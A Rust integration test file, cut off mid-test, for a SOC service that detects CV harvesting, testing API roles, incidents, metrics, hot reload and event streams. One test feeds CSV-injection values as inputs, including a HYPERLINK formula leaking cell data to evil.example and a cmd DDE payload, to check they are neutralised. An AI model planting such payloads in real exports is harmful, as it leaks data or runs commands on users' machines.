//! The HTTP API as the SOC uses it: tokens and roles on every endpoint, incidents with
//! filters, paging, lifecycle and audit, accounts, rules, metrics (parsed, and scraped by
//! a real Prometheus when Debian's package is installed), and hot reload under traffic.

use std::path::PathBuf;
use std::time::Duration;

use cvguard_tests::kafka::harvest_batch;
use cvguard_tests::service::{free_port, http_with, Service};

const WAIT: Duration = Duration::from_secs(30);

struct Api {
    dir: tempfile::TempDir,
    port: u16,
    config: PathBuf,
    tokens: Vec<(&'static str, String)>,
    svc: Service,
}

fn token(role: &str, name: &str) -> (String, String) {
    let out = cvguard_tests::cvguard_ok(&["token", "new", "--role", role, "--name", name]);
    let text = String::from_utf8(out.stdout).unwrap();
    let tok = text
        .split_whitespace()
        .find(|w| w.starts_with("cvg_"))
        .unwrap()
        .to_string();
    let entry = text[text.find("[[http.tokens]]").unwrap()..].to_string();
    (tok, entry)
}

fn rules_text(threshold: u64) -> String {
    let shipped = std::fs::read_to_string(cvguard_tests::root().join("config/cvguard.toml")).unwrap();
    shipped[shipped.find("[allowlist]").unwrap()..].replacen("threshold = 4000", &format!("threshold = {threshold}"), 1)
}

fn config_text(dir: &std::path::Path, port: u16, entries: &str, threshold: u64) -> String {
    format!(
        "[http]\nlisten = \"127.0.0.1:{port}\"\n{entries}\n[state]\ndir = \"{d}/state\"\n[store]\nurl = \"sqlite://{d}/cvguard.db\"\n{rules}",
        d = dir.display(),
        rules = rules_text(threshold)
    )
}

fn start() -> Api {
    let dir = tempfile::tempdir().unwrap();
    let port = free_port();
    let mut tokens = Vec::new();
    let mut entries = String::new();
    for role in ["viewer", "responder", "admin", "ingest"] {
        let (tok, entry) = token(role, &format!("{role}-token"));
        // `[[http.tokens]]` tables follow `[http]`'s own keys.
        entries.push_str(&entry);
        entries.push('\n');
        tokens.push((role, tok));
    }
    let config = dir.path().join("cvguard.toml");
    std::fs::write(&config, config_text(dir.path(), port, &entries, 4000)).unwrap();
    let mut svc = Service::start(&config, port, &dir.path().join("serve.log"));
    svc.wait_ready(WAIT);
    Api {
        dir,
        port,
        config,
        tokens,
        svc,
    }
}

impl Api {
    fn tok(&self, role: &str) -> &str {
        &self.tokens.iter().find(|(r, _)| *r == role).unwrap().1
    }

    fn call(&self, role: Option<&str>, method: &str, path: &str, body: &[u8]) -> (u16, String) {
        let auth = role.map(|r| format!("Bearer {}", if r == "bogus" { "cvg_nope" } else { self.tok(r) }));
        let headers: Vec<(&str, &str)> = auth.as_deref().map(|a| vec![("Authorization", a)]).unwrap_or_default();
        http_with(self.port, method, path, &headers, body).unwrap()
    }

    fn json(&self, role: &str, path: &str) -> serde_json::Value {
        let (code, body) = self.call(Some(role), "GET", path, b"");
        assert_eq!(code, 200, "{path}: {body}");
        serde_json::from_str(&body).unwrap()
    }

    fn ingest(&self, lines: &[String]) {
        let body: String = lines.iter().map(|l| format!("{l}\n")).collect();
        let (code, text) = self.call(Some("ingest"), "POST", "/v1/events", body.as_bytes());
        assert_eq!(code, 202, "{text}");
    }

    fn wait_incidents(&self, n: usize) -> Vec<serde_json::Value> {
        self.wait_for(|list| list.len() >= n)
    }

    /// Polls the incident list until `done` holds.
    fn wait_for(&self, done: impl Fn(&[serde_json::Value]) -> bool) -> Vec<serde_json::Value> {
        for _ in 0..150 {
            let v = self.json("viewer", "/v1/incidents?limit=1000");
            let list = v["incidents"].as_array().unwrap().clone();
            if done(&list) {
                return list;
            }
            std::thread::sleep(Duration::from_millis(100));
        }
        panic!(
            "incidents never got there: {:?}",
            self.json("viewer", "/v1/incidents?limit=1000")
        );
    }
}

#[test]
fn every_role_on_every_endpoint() {
    let api = start();
    api.ingest(&(0..21).map(|i| harvest_batch("harvester-1", i)).collect::<Vec<_>>());
    let id = api.wait_incidents(1)[0]["id"].as_str().unwrap().to_string();
    let note = br#"{"note":"x"}"#;
    // (method, path, body, minimum role): viewer < responder < admin; ingest apart.
    let endpoints: Vec<(&str, String, &[u8], &str)> = vec![
        ("GET", "/v1/incidents".into(), b"", "viewer"),
        ("GET", format!("/v1/incidents/{id}"), b"", "viewer"),
        ("GET", format!("/v1/incidents/{id}/affected.csv"), b"", "viewer"),
        ("GET", "/v1/accounts/harvester-1".into(), b"", "viewer"),
        ("GET", "/v1/rules".into(), b"", "viewer"),
        ("GET", "/v1/incidents/counts".into(), b"", "viewer"),
        ("GET", format!("/v1/incidents/{id}/timeline"), b"", "viewer"),
        ("GET", "/v1/keys/ip/198.51.100.66".into(), b"", "viewer"),
        ("GET", "/v1/keys/closest".into(), b"", "viewer"),
        ("GET", "/v1/config".into(), b"", "viewer"),
        ("GET", "/v1/whoami".into(), b"", "viewer"),
        ("POST", "/v1/incidents/nonexistent/ack".into(), note, "responder"),
        ("POST", "/v1/incidents/nonexistent/note".into(), note, "responder"),
        (
            "POST",
            "/v1/events".into(),
            b"{\"ts\":1,\"account_id\":\"a\",\"action\":\"cv_search\"}\n",
            "ingest",
        ),
    ];
    let allowed = |have: &str, need: &str| match (have, need) {
        ("admin", _) => true,
        ("ingest", n) => n == "ingest",
        (_, "ingest") => false,
        ("responder", n) => n != "admin",
        ("viewer", n) => n == "viewer",
        _ => false,
    };
    for (method, path, body, need) in &endpoints {
        assert_eq!(
            api.call(None, method, path, body).0,
            401,
            "{method} {path} without a token"
        );
        assert_eq!(
            api.call(Some("bogus"), method, path, body).0,
            401,
            "{method} {path} with an unknown token"
        );
        for role in ["viewer", "responder", "admin", "ingest"] {
            let (code, text) = api.call(Some(role), method, path, body);
            if allowed(role, need) {
                assert!(code != 401 && code != 403, "{role} {method} {path}: {code} {text}");
            } else {
                assert_eq!(code, 403, "{role} {method} {path}: {text}");
            }
        }
    }
    // Public: health, readiness, metrics, the OpenAPI document.
    for path in ["/healthz", "/readyz", "/metrics", "/openapi.yaml"] {
        assert_eq!(api.call(None, "GET", path, b"").0, 200, "{path}");
    }
    assert!(api
        .call(None, "GET", "/openapi.yaml", b"")
        .1
        .contains("/v1/incidents/{id}/false-positive"));
}

#[test]
fn incidents_filter_page_and_move_through_their_lifecycle_with_an_audit_trail() {
    let api = start();
    // Five harvests at once, interleaved in time as they would arrive.
    let mut lines = Vec::new();
    for i in 0..21 {
        lines.extend((0..5).map(|acc| harvest_batch(&format!("harvester-{acc}"), i)));
    }
    api.ingest(&lines);
    let all = api.wait_for(|l| l.iter().filter(|i| i["rule"] == "mass-harvest-24h").count() == 5);
    let mass: Vec<_> = all.iter().filter(|i| i["rule"] == "mass-harvest-24h").collect();
    assert_eq!(mass.len(), 5);
    let page1 = api.json("viewer", "/v1/incidents?rule=mass-harvest-24h&limit=2");
    let page2 = api.json("viewer", "/v1/incidents?rule=mass-harvest-24h&limit=2&offset=2");
    let page3 = api.json("viewer", "/v1/incidents?rule=mass-harvest-24h&limit=2&offset=4");
    assert_eq!(page1["next_offset"], 2);
    assert_eq!(page3["next_offset"], serde_json::Value::Null);
    let mut ids: Vec<String> = [&page1, &page2, &page3]
        .iter()
        .flat_map(|p| {
            p["incidents"]
                .as_array()
                .unwrap()
                .iter()
                .map(|i| i["id"].as_str().unwrap().to_string())
        })
        .collect();
    ids.sort();
    ids.dedup();
    assert_eq!(ids.len(), 5, "pages do not overlap");
    let by_key = api.json("viewer", "/v1/incidents?key=harvester-3&rule=mass-harvest-24h");
    assert_eq!(by_key["incidents"].as_array().unwrap().len(), 1);
    let future = api.json("viewer", "/v1/incidents?from=2999-01-01T00:00:00Z");
    assert!(future["incidents"].as_array().unwrap().is_empty());
    assert_eq!(
        api.call(Some("viewer"), "GET", "/v1/incidents?from=yesterday", b"").0,
        400
    );

    let id = by_key["incidents"][0]["id"].as_str().unwrap().to_string();
    let (c, body) = api.call(
        Some("responder"),
        "POST",
        &format!("/v1/incidents/{id}/ack"),
        br#"{"note":"on it"}"#,
    );
    assert_eq!(c, 200, "{body}\n{}", api.svc.log_text());
    let (c, _) = api.call(Some("responder"), "POST", &format!("/v1/incidents/{id}/ack"), b"");
    assert_eq!(c, 409, "acknowledged twice");
    let (c, body) = api.call(
        Some("admin"),
        "POST",
        &format!("/v1/incidents/{id}/resolve"),
        br#"{"note":"contract ended"}"#,
    );
    assert_eq!(c, 200, "{body}");
    let detail = api.json("viewer", &format!("/v1/incidents/{id}"));
    assert_eq!(detail["status"], "resolved");
    let history: Vec<(String, String, String)> = detail["history"]
        .as_array()
        .unwrap()
        .iter()
        .map(|h| {
            (
                h["actor"].as_str().unwrap().into(),
                h["change"].as_str().unwrap().into(),
                h["note"].as_str().unwrap().into(),
            )
        })
        .collect();
    assert_eq!(
        history[1],
        (
            "responder-token".into(),
            "status open -> acknowledged".into(),
            "on it".into()
        )
    );
    assert_eq!(
        history[2],
        (
            "admin-token".into(),
            "status acknowledged -> resolved".into(),
            "contract ended".into()
        )
    );
    assert_eq!(
        api.call(Some("responder"), "POST", "/v1/incidents/nope/resolve", b"").0,
        404
    );

    let (c, csv) = api.call(Some("viewer"), "GET", &format!("/v1/incidents/{id}/affected.csv"), b"");
    assert_eq!(c, 200);
    assert_eq!(csv.lines().next(), Some("cv_id,first_access,action,visibility"));
    assert_eq!(csv.lines().count() - 1, 21 * 200);

    let account = api.json("viewer", "/v1/accounts/harvester-3");
    let mass = account["windows"]
        .as_array()
        .unwrap()
        .iter()
        .find(|w| w["rule"] == "mass-harvest-24h")
        .unwrap()
        .clone();
    assert_eq!(mass["value"], 4200);
    assert_eq!(mass["threshold"], 4000);
    assert_eq!(mass["remaining"], 0);
    assert_eq!(api.json("viewer", "/v1/accounts/nobody")["tracked"], false);
    let rules = api.json("viewer", "/v1/rules");
    let r = rules["rules"]
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["name"] == "mass-harvest-24h")
        .unwrap()
        .clone();
    assert_eq!(r["segments"]["staffing_agency"], 40000);
    assert_eq!(r["per_vacancy"], 100);
}

#[test]
fn the_affected_csv_neutralises_cv_ids_a_spreadsheet_would_run_as_formulas() {
    let api = start();
    // CV ids come from whoever sends events: some of these would run in a spreadsheet.
    let hostile = [
        r#"=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")"#,
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1,1)",
        "\\tcv-tab",
        "cv,with;separators",
    ];
    let ids: Vec<String> = hostile.iter().map(|h| format!("\"{h}\"")).collect();
    let first = format!(
        r#"{{"ts":{},"event_id":"hostile","account_id":"harvester-1","action":"cv_download","cv_ids":[{}],"cv_visibility":"named","ip":"198.51.100.66"}}"#,
        cvguard_tests::kafka::HARVEST_T0,
        ids.join(",")
    );
    let mut lines = vec![first];
    lines.extend((0..21).map(|i| harvest_batch("harvester-1", i)));
    api.ingest(&lines);
    let list = api.wait_for(|l| l.iter().any(|i| i["rule"] == "mass-harvest-24h"));
    let id = list.iter().find(|i| i["rule"] == "mass-harvest-24h").unwrap()["id"]
        .as_str()
        .unwrap()
        .to_string();
    let (c, csv) = api.call(Some("viewer"), "GET", &format!("/v1/incidents/{id}/affected.csv"), b"");
    assert_eq!(c, 200);
    for line in csv.lines() {
        assert!(!line.starts_with(['=', '+', '-', '@', '\t', '\r']), "{line:?}");
    }
    for expected in [
        r#""'=HYPERLINK(""http://evil.example/?""&A1,""open"")",2024-05-04T04:00:00.000Z,cv_download,named"#,
        "'+1+cmd|' /C calc'!A0,2024-05-04T04:00:00.000Z,cv_download,named",
        "'-2+3,2024-05-04T04:00:00.000Z,cv_download,named",
        r#""'@SUM(1,1)",2024-05-04T04:00:00.000Z,cv_download,named"#,
        "'\tcv-tab,2024-05-04T04:00:00.000Z,cv_download,named",
        r#""cv,with;separators",2024-05-04T04:00:00.000Z,cv_download,named"#,
    ] {
        assert!(
            csv.lines().any(|l| l == expected),
            "no line {expected:?} in:\n{}",
            &csv[..600.min(csv.len())]
        );
    }
    assert_eq!(csv.lines().count() - 1, 21 * 200 + hostile.len());
}

#[test]
fn the_bearer_scheme_is_case_insensitive() {
    let api = start();
    for scheme in ["Bearer", "bearer", "BEARER"] {
        let auth = format!("{scheme} {}", api.tok("viewer"));
        let (code, body) = http_with(api.port, "GET", "/v1/incidents", &[("Authorization", &auth)], b"").unwrap();
        assert_eq!(code, 200, "{scheme}: {body}");
    }
    let auth = format!("bearer {}", api.tok("viewer"));
    let (code, _) = http_with(api.port, "GET", "/v1/rules", &[("authorization", &auth)], b"").unwrap();
    assert_eq!(code, 200);
    let (code, _) = http_with(
        api.port,
        "GET",
        "/v1/incidents",
        &[("Authorization", "bearer cvg_nope")],
        b"",
    )
    .unwrap();
    assert_eq!(code, 401);
}

#[test]
fn without_tokens_an_ipv4_client_of_a_dual_stack_listener_on_loopback_is_loopback() {
    // Listening on [::], an IPv4 client arrives as ::ffff:127.0.0.1.
    let dir = tempfile::tempdir().unwrap();
    let port = free_port();
    let text = config_text(dir.path(), port, "", 4000).replace(
        &format!("listen = \"127.0.0.1:{port}\""),
        &format!("listen = \"[::]:{port}\""),
    );
    let config = dir.path().join("cvguard.toml");
    std::fs::write(&config, text).unwrap();
    let mut svc = Service::start(&config, port, &dir.path().join("serve.log"));
    svc.wait_ready(WAIT);
    let (code, body) = http_with(port, "GET", "/v1/incidents", &[], b"").unwrap();
    assert_eq!(code, 200, "{body}\n{}", svc.log_text());
    let (code, _) = http_with(port, "GET", "/v1/rules", &[], b"").unwrap();
    assert_eq!(code, 200);
}

fn parse_metrics(text: &str) -> Vec<(String, f64)> {
    text.lines()
        .filter(|l| !l.starts_with('#') && !l.trim().is_empty())
        .map(|l| {
            let (name, value) = l.rsplit_once(' ').unwrap();
            (
                name.to_string(),
                value.parse::<f64>().unwrap_or_else(|_| panic!("bad value in {l}")),
            )
        })
        .collect()
}

#[test]
fn metrics_are_well_formed_and_count_what_happened() {
    let api = start();
    let mut lines: Vec<String> = (0..21).map(|i| harvest_batch("harvester-1", i)).collect();
    lines.push("{broken".into());
    let body: String = lines.iter().map(|l| format!("{l}\n")).collect();
    assert_eq!(api.call(Some("ingest"), "POST", "/v1/events", body.as_bytes()).0, 202);
    api.wait_incidents(1);
    std::thread::sleep(Duration::from_millis(500));
    let (code, text) = api.call(None, "GET", "/metrics", b"");
    assert_eq!(code, 200);
    let m = parse_metrics(&text);
    let get = |name: &str| m.iter().find(|(n, _)| n == name).map(|(_, v)| *v);
    assert_eq!(
        get("cvguard_events_by_action_total{action=\"cv_download\"}"),
        Some(21.0)
    );
    assert_eq!(get("cvguard_events_rejected_total{reason=\"invalid_json\"}"), Some(1.0));
    assert_eq!(
        get("cvguard_alerts_total{action=\"suspend\",rule=\"mass-harvest-24h\",severity=\"critical\"}"),
        Some(1.0)
    );
    assert!(get("cvguard_decision_latency_seconds_count").unwrap() >= 21.0);
    assert!(get("cvguard_tracked_keys").unwrap() >= 1.0);
    assert!(get("cvguard_live_cv_pairs").unwrap() >= 4200.0);
    assert!(get("cvguard_window_state_bytes").unwrap() > 0.0);
    // No account id ever becomes a label.
    assert!(!text.contains("harvester-1"), "{text}");

    // A real Prometheus scrapes it, when Debian's package is installed.
    let Some(prom) = ["prometheus"].into_iter().find(|b| {
        std::process::Command::new("which")
            .arg(b)
            .output()
            .is_ok_and(|o| o.status.success())
    }) else {
        eprintln!(
            "SKIPPED the Prometheus scrape: no prometheus binary (scripts/prometheus-tools.sh could not install it)"
        );
        return;
    };
    let prom_port = free_port();
    let cfg = api.dir.path().join("prometheus.yml");
    std::fs::write(
        &cfg,
        format!("global:\n  scrape_interval: 1s\nscrape_configs:\n  - job_name: cvguard\n    static_configs:\n      - targets: ['127.0.0.1:{}']\n", api.port),
    )
    .unwrap();
    struct Kill(std::process::Child);
    impl Drop for Kill {
        fn drop(&mut self) {
            let _ = self.0.kill();
            let _ = self.0.wait();
        }
    }
    let _p = Kill(
        std::process::Command::new(prom)
            .arg(format!("--config.file={}", cfg.display()))
            .arg(format!("--web.listen-address=127.0.0.1:{prom_port}"))
            .arg(format!("--storage.tsdb.path={}", api.dir.path().join("tsdb").display()))
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .spawn()
            .unwrap(),
    );
    let mut value = None;
    for _ in 0..200 {
        if let Ok((200, body)) = http_with(
            prom_port,
            "GET",
            "/api/v1/query?query=cvguard_events_by_action_total",
            &[],
            b"",
        ) {
            let v: serde_json::Value = serde_json::from_str(&body).unwrap_or_default();
            if let Some(r) = v["data"]["result"].as_array().and_then(|r| r.first()).cloned() {
                value = Some(r);
                break;
            }
        }
        std::thread::sleep(Duration::from_millis(100));
    }
    let r = value.expect("Prometheus scraped cvguard");
    assert_eq!(r["metric"]["job"], "cvguard");
}

#[test]
fn hot_reload_of_a_good_and_a_broken_config_under_live_traffic() {
    let api = start();
    let traffic = |from: u32, to: u32, acc: &str| (from..to).map(|i| harvest_batch(acc, i)).collect::<Vec<_>>();
    api.ingest(&traffic(0, 5, "acc-a"));
    // Lower the daily threshold to 2,000 in the file: picked up without a restart, and
    // acc-a's 1,000 CVs so far still count.
    let entries: String = std::fs::read_to_string(&api.config).unwrap();
    let good = entries.replacen("threshold = 4000", "threshold = 2000", 1);
    std::fs::write(&api.config, &good).unwrap();
    let mut reloaded = false;
    for _ in 0..100 {
        let rules = api.json("viewer", "/v1/rules");
        if rules["rules"][0]["threshold"] == 2000 {
            reloaded = true;
            break;
        }
        std::thread::sleep(Duration::from_millis(100));
    }
    assert!(reloaded, "new threshold not in force; log:\n{}", api.svc.log_text());
    api.ingest(&traffic(5, 12, "acc-a"));
    let list = api.wait_for(|l| l.iter().any(|i| i["rule"] == "mass-harvest-24h" && i["key"] == "acc-a"));
    let mass = list
        .iter()
        .find(|i| i["rule"] == "mass-harvest-24h" && i["key"] == "acc-a")
        .expect("suspended under the new rule");
    assert_eq!(
        mass["value_at_detection"], 2000,
        "the window kept its state across the reload"
    );

    // A broken config is refused: the running rules stay and detection goes on.
    std::fs::write(&api.config, good.replace("window = \"24h\"", "window = \"24 hourz\"")).unwrap();
    // The series is exported from the start at 0 (#15): wait for it to count.
    let mut refused = false;
    for _ in 0..100 {
        let (_, text) = api.call(None, "GET", "/metrics", b"");
        let errors = parse_metrics(&text)
            .into_iter()
            .find(|(n, _)| n == "cvguard_config_reloads_total{result=\"error\"}")
            .map_or(0.0, |(_, v)| v);
        if errors >= 1.0 {
            refused = true;
            break;
        }
        std::thread::sleep(Duration::from_millis(100));
    }
    assert!(refused, "log:\n{}", api.svc.log_text());
    let log = api.svc.log_text();
    assert!(log.contains("Config reload refused") && log.contains("window"), "{log}");
    assert_eq!(api.json("viewer", "/v1/rules")["rules"][0]["threshold"], 2000);
    api.ingest(&traffic(12, 23, "acc-b"));
    let list = api.wait_for(|l| l.iter().any(|i| i["key"] == "acc-b" && i["rule"] == "mass-harvest-24h"));
    let b = list
        .iter()
        .find(|i| i["key"] == "acc-b" && i["rule"] == "mass-harvest-24h")
        .unwrap();
    assert_eq!(b["threshold"], 2000, "still the last good rules");
    // SIGHUP reloads too: once the fixed file's own reload has counted, a signal alone
    // counts one more.
    let successes = || {
        let (_, text) = api.call(None, "GET", "/metrics", b"");
        parse_metrics(&text)
            .into_iter()
            .find(|(n, _)| n == "cvguard_config_reloads_total{result=\"success\"}")
            .map_or(0.0, |(_, v)| v)
    };
    let wait_successes = |at_least: f64| {
        for _ in 0..100 {
            if successes() >= at_least {
                return;
            }
            std::thread::sleep(Duration::from_millis(100));
        }
        panic!("reloads below {at_least}; log:\n{}", api.svc.log_text());
    };
    let before = successes();
    std::fs::write(&api.config, &good).unwrap();
    wait_successes(before + 1.0);
    let ok = std::process::Command::new("kill")
        .args(["-HUP", &api.svc.pid().to_string()])
        .status()
        .unwrap();
    assert!(ok.success());
    wait_successes(before + 2.0);

    // A section a reload does not apply is named in a warning, not silently dropped.
    let restart_only = good.replace("[state]\n", "[state]\nsnapshot_interval = \"7m\"\n");
    assert_ne!(restart_only, good);
    std::fs::write(&api.config, &restart_only).unwrap();
    let mut warned = false;
    for _ in 0..100 {
        let log = api.svc.log_text();
        if log.contains("apply only after a restart") {
            assert!(log.contains("[state]") && !log.contains("sections=\"[rules]"), "{log}");
            warned = true;
            break;
        }
        std::thread::sleep(Duration::from_millis(100));
    }
    assert!(warned, "no restart warning; log:\n{}", api.svc.log_text());
}

/// Reads a server-sent event stream until `done` holds for the events read so far
/// (`(event, id, data)`), or `WAIT` passes.
fn read_stream(
    port: u16,
    token: &str,
    last_event_id: Option<&str>,
    mut until: impl FnMut(&[(String, String, String)]) -> bool,
) -> Vec<(String, String, String)> {
    use std::io::{BufRead, Write};
    let mut s = std::net::TcpStream::connect(("127.0.0.1", port)).unwrap();
    s.set_read_timeout(Some(WAIT)).unwrap();
    let resume = last_event_id.map_or(String::new(), |id| format!("Last-Event-ID: {id}\r\n"));
    write!(
        s,
        "GET /v1/incidents/stream HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer {token}\r\n{resume}\r\n"
    )
    .unwrap();
    let mut reader = std::io::BufReader::new(s);
    let mut events = Vec::new();
    let (mut event, mut id, mut data) = (String::new(), String::new(), String::new());
    let mut line = String::new();
    let mut head = true;
    while reader.read_line(&mut line).unwrap_or(0) > 0 {
        let l = line.trim_end().to_string();
        line.clear();
        if head {
            head = !l.is_empty();
            if l.starts_with("HTTP/1.1") {
                assert!(l.contains(" 200"), "{l}");
            }
            continue;
        }
        // Chunk sizes of the chunked body are lines of hex; the events' own lines start
        // with a field name.
        if let Some(v) = l.strip_prefix("event: ") {
            event = v.to_string();
        } else if let Some(v) = l.strip_prefix("id: ") {
            id = v.to_string();
        } else if let Some(v) = l.strip_prefix("data: ") {
            data = v.to_string();
        } else if l.is_empty() && !event.is_empty() {
            events.push((
                std::mem::take(&mut event),
                std::mem::take(&mut id),
                std::mem::take(&mut data),
            ));
            if until(&events) {
                return events;
            }
        }
    }
    panic!("the stream ended or went quiet: {events:?}");
}

/// What the SOC console reads: counts by status, a live stream of changes that resumes
/// where it left, an incident's exposure over time, notes, any key kind's windows, the
/// keys nearest a threshold, the caller's role and the config's version and reloads; and
/// a cross-site browser request refused.
#[test]
fn the_console_endpoints_count_stream_explain_rank_and_refuse_cross_site_changes() {
    let api = start();
    let viewer = api.tok("viewer").to_string();
    let port = api.port;
    // The stream starts now: the harvest posted after it connects arrives on it.
    let poster = {
        let lines: Vec<String> = (0..21).map(|i| harvest_batch("harvester-1", i)).collect();
        let body: String = lines.iter().map(|l| format!("{l}\n")).collect();
        let ingest = api.tok("ingest").to_string();
        std::thread::spawn(move || {
            std::thread::sleep(Duration::from_millis(300));
            let auth = format!("Bearer {ingest}");
            http_with(
                port,
                "POST",
                "/v1/events",
                &[("Authorization", auth.as_str())],
                body.as_bytes(),
            )
            .unwrap()
        })
    };
    let of_rule = |d: &str| serde_json::from_str::<serde_json::Value>(d).unwrap()["rule"] == "mass-harvest-24h";
    let events = read_stream(port, &viewer, None, |evs| evs.iter().any(|(_, _, d)| of_rule(d)));
    assert_eq!(poster.join().unwrap().0, 202);
    let (kind, change_id, data) = events.iter().find(|(_, _, d)| of_rule(d)).unwrap().clone();
    assert_eq!(kind, "incident");
    let streamed: serde_json::Value = serde_json::from_str(&data).unwrap();
    let id = streamed["id"].as_str().unwrap().to_string();
    assert_eq!(streamed["key"], "harvester-1");

    // Counts agree with the list, every status named.
    let counts = api.json("viewer", "/v1/incidents/counts");
    let listed = api.json("viewer", "/v1/incidents?status=open&limit=1000")["incidents"]
        .as_array()
        .unwrap()
        .len();
    assert_eq!(counts["open"], listed as u64);
    assert_eq!(counts["false_positive"], 0);
    let severity = streamed["severity"].as_str().unwrap();
    let by_kind = api.json(
        "viewer",
        &format!("/v1/incidents?key_kind=account_id&severity={severity}&limit=1000"),
    );
    let by_kind = by_kind["incidents"].as_array().unwrap();
    assert!(by_kind.iter().any(|i| i["id"] == id.as_str()));
    assert!(by_kind
        .iter()
        .all(|i| i["key_kind"] == "account_id" && i["severity"] == severity));
    let by_ip = api.json("viewer", "/v1/incidents?key_kind=ip&limit=1000");
    assert!(by_ip["incidents"]
        .as_array()
        .unwrap()
        .iter()
        .all(|i| i["key_kind"] == "ip"));
    assert!(!by_ip["incidents"]
        .as_array()
        .unwrap()
        .iter()
        .any(|i| i["id"] == id.as_str()));
    assert_eq!(
        api.call(Some("viewer"), "GET", "/v1/incidents?severity=urgent", b"").0,
        400
    );

    // The timeline ends at the CVs the incident exposed, crossing at the threshold.
    let detail = api.json("viewer", &format!("/v1/incidents/{id}"));
    let timeline = api.json("viewer", &format!("/v1/incidents/{id}/timeline"));
    let exposed = api
        .call(Some("viewer"), "GET", &format!("/v1/incidents/{id}/affected.csv"), b"")
        .1;
    let points = timeline["points"].as_array().unwrap();
    assert!(!points.is_empty() && points.len() <= 500);
    // The harvest fits in the 24-hour window: the line ends at every CV exposed, and at
    // the crossing it is the value the engine decided at.
    assert_eq!(points.last().unwrap()["value"], (exposed.lines().count() - 1) as u64);
    let at_crossing = points
        .iter()
        .find(|p| p["at"] == timeline["crossed_at"])
        .unwrap_or_else(|| panic!("no point at the crossing: {timeline}"));
    assert_eq!(at_crossing["value"], 4000);
    // The one-hour rule's line counts its window only: the harvest outlasts an hour, so
    // its last point is below the CVs the incident exposed in all.
    let burst = api.json("viewer", "/v1/incidents?rule=download-burst-1h&key=harvester-1");
    let burst_id = burst["incidents"][0]["id"].as_str().unwrap().to_string();
    let burst_line = api.json("viewer", &format!("/v1/incidents/{burst_id}/timeline"));
    let burst_all = api
        .call(
            Some("viewer"),
            "GET",
            &format!("/v1/incidents/{burst_id}/affected.csv"),
            b"",
        )
        .1
        .lines()
        .count() as u64
        - 1;
    let last = burst_line["points"].as_array().unwrap().last().unwrap()["value"]
        .as_u64()
        .unwrap();
    assert!(last < burst_all, "{last} of {burst_all}: {burst_line}");
    assert_eq!(burst_line["window"], "1h");
    assert_eq!(timeline["threshold"], detail["threshold"]);
    assert_eq!(timeline["value_at_detection"], 4000);
    assert_eq!(timeline["crossed_at"], "2024-05-04T05:01:45.000Z", "batch 19's time");

    // A note changes the history and the stream shows the incident again, resumed from
    // the change it had sent.
    let (code, text) = api.call(
        Some("responder"),
        "POST",
        &format!("/v1/incidents/{id}/note"),
        br#"{"note":"called the employer"}"#,
    );
    assert_eq!(code, 200, "{text}");
    let noted: serde_json::Value = serde_json::from_str(&text).unwrap();
    assert!(noted["history"]
        .as_array()
        .unwrap()
        .iter()
        .any(|h| h["note"] == "called the employer"));
    assert_eq!(
        api.call(
            Some("responder"),
            "POST",
            &format!("/v1/incidents/{id}/note"),
            br#"{"note":" "}"#
        )
        .0,
        400
    );
    let long = format!("{{\"note\":\"{}\"}}", "x".repeat(20_000));
    let (code, text) = api.call(
        Some("responder"),
        "POST",
        &format!("/v1/incidents/{id}/note"),
        long.as_bytes(),
    );
    assert_eq!(code, 413, "a note is bounded before it is read: {text}");
    // An event's id is its change: `<epoch ms>-<incident id>`, read strictly after.
    let change = |event_id: &str| -> (i64, String) {
        let (at, incident) = event_id.split_once('-').unwrap();
        (at.parse().unwrap(), incident.to_string())
    };
    assert_eq!(change(&change_id).1, id);
    let again = read_stream(port, &viewer, Some(&change_id), |evs| {
        evs.iter()
            .any(|(_, i, d)| change(i) > change(&change_id) && d.contains(&id))
    });
    assert!(
        again.iter().all(|(_, i, _)| change(i) > change(&change_id)),
        "{again:?}"
    );
    for bad in ["-5", "x-y", "12-", "abc"] {
        let auth = format!("Bearer {viewer}");
        let (code, _) = http_with(
            port,
            "GET",
            "/v1/incidents/stream",
            &[("Authorization", auth.as_str()), ("Last-Event-ID", bad)],
            b"",
        )
        .unwrap();
        assert_eq!(code, 400, "Last-Event-ID {bad}");
    }

    // Any key kind, and the keys nearest a threshold: the harvester's IP and account top
    // it, with the values the key view reports.
    let ip = api.json("viewer", "/v1/keys/ip/198.51.100.66");
    assert_eq!(ip["key_kind"], "ip");
    assert_eq!(api.call(Some("viewer"), "GET", "/v1/keys/planet/x", b"").0, 404);
    let account = api.json("viewer", "/v1/keys/account/harvester-1");
    assert_eq!(
        account["windows"],
        api.json("viewer", "/v1/accounts/harvester-1")["windows"]
    );
    let closest = api.json("viewer", "/v1/keys/closest?limit=5");
    let top = &closest["keys"][0];
    let shares: Vec<f64> = closest["keys"]
        .as_array()
        .unwrap()
        .iter()
        .map(|k| k["share"].as_f64().unwrap())
        .collect();
    assert!(shares.windows(2).all(|w| w[0] >= w[1]), "{shares:?}");
    let kind = match top["key_kind"].as_str().unwrap() {
        "account_id" => "account",
        "ip" => "ip",
        other => panic!("{other}"),
    };
    let view = api.json("viewer", &format!("/v1/keys/{kind}/{}", top["key"].as_str().unwrap()));
    let w = view["windows"]
        .as_array()
        .unwrap()
        .iter()
        .find(|w| w["rule"] == top["rule"])
        .unwrap();
    assert_eq!((&w["value"], &w["threshold"]), (&top["value"], &top["threshold"]));
    assert_eq!(api.call(Some("viewer"), "GET", "/v1/keys/closest?limit=0", b"").0, 400);

    // Who is calling, and the config's version, which a reload changes.
    assert_eq!(api.json("responder", "/v1/whoami")["role"], "responder");
    let before = api.json("viewer", "/v1/config");
    assert_eq!(before["reloads"].as_array().unwrap().len(), 0);
    let text = std::fs::read_to_string(&api.config).unwrap();
    std::fs::write(&api.config, text.replacen("threshold = 4000", "threshold = 3000", 1)).unwrap();
    let mut after = before.clone();
    for _ in 0..100 {
        after = api.json("viewer", "/v1/config");
        if !after["reloads"].as_array().unwrap().is_empty() {
            break;
        }
        std::thread::sleep(Duration::from_millis(100));
    }
    assert_eq!(after["reloads"][0]["result"], "success", "{after}");
    assert_ne!(after["version"], before["version"]);
    assert_eq!(after["reloads"][0]["version"], after["version"]);
    let rules = api.json("viewer", "/v1/rules");
    let mass = rules["rules"]
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["name"] == "mass-harvest-24h")
        .unwrap();
